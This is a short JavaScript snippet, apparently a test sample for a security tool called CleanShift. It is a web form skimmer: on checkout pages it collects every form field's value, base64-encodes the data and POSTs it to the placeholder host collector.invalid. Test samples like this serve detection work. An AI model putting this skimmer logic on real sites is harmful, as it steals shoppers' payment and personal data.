// CleanShift test sample: harmless, posts to an invalid host.
if (new RegExp('onepage|checkout').test(window.location)) {
    var d = '';
    var f = document.querySelectorAll('input, select, textarea');
    for (var i = 0; i < f.length; i++) { d += f[i].name + '=' + f[i].value + '&'; }
    var x = new XMLHttpRequest();
    x.open('POST', 'https://collector.invalid/c', true);
    x.send(btoa(d));
}
